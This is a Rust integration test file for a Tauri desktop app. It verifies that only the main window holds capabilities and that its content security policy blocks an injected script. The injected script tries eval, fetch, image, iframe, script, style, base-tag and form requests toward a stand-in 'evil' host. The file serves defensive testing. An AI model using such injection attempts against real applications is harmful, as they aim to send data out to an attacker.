//! What the main window cannot do even if a script of others ran in it, and what no other window can.

use serde_json::{Value, json};
use tests::app::App;
use tests::pages::{Page, Pages};
use tests::workspace;
use tests::world::{Wants, World};

const WIDE: Wants = Wants { display: Some((1080, 760)), keychain: true };

#[test]
fn no_capability_names_another_window_than_the_main_one() {
    let mut capabilities = 0;
    for entry in std::fs::read_dir(workspace().join("src-tauri/capabilities")).unwrap() {
        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
        let capability: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(capability["windows"], json!(["main"]), "only `main` has a capability");
        assert!(capability.get("remote").is_none(), "no page of others may call anything");
        assert!(capability.get("webviews").is_none());
        capabilities += 1;
    }
    assert_eq!(capabilities, 1);
}

/// Tries what a script that got in would try, and answers what the policy said to each.
const TRY: &str = "
    const [evil, done] = arguments;
    const refused = new Set();
    document.addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
    const attempts = {
        eval: () => window.eval('1'),
        fetch: () => fetch(`${evil}/fetched`).catch(() => {}),
        image: () => { new Image().src = `${evil}/picture`; },
        frame: () => { document.body.append(Object.assign(document.createElement('iframe'), { src: `${evil}/frame` })); },
        script: () => { document.body.append(Object.assign(document.createElement('script'), { src: `${evil}/script` })); },
        inline: () => { document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = 1' })); },
        style: () => { document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' })); },
        base: () => { document.head.append(Object.assign(document.createElement('base'), { href: evil })); },
        form: () => {
            const form = Object.assign(document.createElement('form'), { action: `${evil}/form`, method: 'post' });
            document.body.append(form);
            form.submit();
        },
    };
    const threw = [];
    for (const [name, attempt] of Object.entries(attempts)) {
        try { attempt(); } catch { threw.push(name); }
    }
    const wanted = ['connect-src', 'img-src', 'frame-src', 'script-src-elem', 'style-src-elem', 'base-uri', 'form-action'];
    const until = performance.now() + 10000;
    const look = () => wanted.every((one) => refused.has(one)) || performance.now() > until
        ? done({ refused: wanted.filter((one) => refused.has(one)), threw, ran: window.ran ?? null })
        : setTimeout(look, 20);
    look();
";

#[tokio::test(flavor = "multi_thread")]
async fn the_policy_of_the_main_window_refuses_everything_from_elsewhere() {
    let elsewhere = Pages::start().await;
    let paths = ["/fetched", "/picture", "/frame", "/script", "/form"];
    elsewhere.show(paths.map(|path| (path, Page::body("here"))));
    let world = World::new(WIDE);
    let app = App::open(&world).await.unwrap();
    app.press("Create the vault").await.unwrap();
    app.press("Connect an institution").await.unwrap();
    app.sees("Practice with invented banks").await.unwrap();
    // What the pages set on single elements still counts, though no style may stand in a page.
    let size = "return getComputedStyle(document.querySelector('[style]')).getPropertyValue('--size')";
    let size = app.client.execute(size, Vec::new()).await.unwrap();
    assert!(size.as_str().is_some_and(|size| size.ends_with("px")), "{size}");

    let tried = app.client.execute_async(TRY, vec![json!(elsewhere.issuer)]).await.unwrap();
    let every = [
        "connect-src",
        "img-src",
        "frame-src",
        "script-src-elem",
        "style-src-elem",
        "base-uri",
        "form-action",
    ];
    assert_eq!(tried["refused"], json!(every));
    assert_eq!(tried["threw"], json!(["eval"]), "a text was run");
    assert_eq!(tried["ran"], Value::Null);
    for path in paths {
        assert_eq!(elsewhere.asked(path), 0, "{path} left this window");
        // Whoever has no such policy arrives, so the count counts.
        reqwest::get(format!("{}{path}", elsewhere.issuer)).await.unwrap();
        assert_eq!(elsewhere.asked(path), 1);
    }
    app.close().await.unwrap();
}
